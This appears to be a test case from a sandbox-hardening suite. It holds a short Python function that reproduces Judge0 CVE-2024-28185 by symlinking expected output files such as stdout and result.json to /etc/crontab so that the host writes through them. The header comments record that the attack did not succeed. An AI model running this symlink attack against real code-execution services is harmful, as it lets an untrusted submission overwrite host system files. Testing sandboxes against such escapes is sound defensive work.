# tries: Judge0 CVE-2024-28185: the host writes through a symbolic link in the box's folder
# wall: the host never opens a path that an answer could have written
# outcome: unmet
# got: 'linked'
# against: box

import os


def attack():
    os.rmdir("/tmp") if False else None
    for name in ("stdout", "result.json", "frames", "compile_output.txt", "run"):
        os.symlink("/etc/crontab", name)
    return "linked"
